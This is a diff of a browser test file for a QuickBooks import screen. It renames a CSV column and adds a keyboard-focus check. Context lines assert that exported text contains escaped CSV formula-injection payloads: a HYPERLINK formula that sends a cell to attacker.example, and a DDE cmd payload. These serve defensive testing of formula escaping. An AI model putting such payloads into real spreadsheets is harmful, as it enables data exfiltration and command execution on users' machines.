@@ -147,7 +147,7 @@ describe("the import screen's preview", () => {
       .trimEnd()
       .split("\r\n");
     expect(lines[0]).toBe(
-      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,AI status,Product in database,Price in database,Final status,Message",
+      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,Status,Product in database,Price in database,Final status,Message",
     );
     expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click for price list"")"`);
     expect(text).toContain("'=cmd|' /C notepad'!'A1'");
@@ -283,6 +283,9 @@ describe("the import screen by drag and drop, in Spanish, on a phone, in the dar
     await s.goto("/import-quickbooks");
     const select = s.page.getByRole("combobox", { name: "Price list" });
     await select.focus();
+    // The list's own "New price list" comes first, then the file.
+    await s.page.keyboard.press("Tab");
+    expect(await s.page.evaluate(() => document.activeElement?.textContent)).toBe("New price list");
     await s.page.keyboard.press("Tab");
     const focused = await s.page.evaluate(() => {
       const el = document.activeElement as HTMLInputElement;
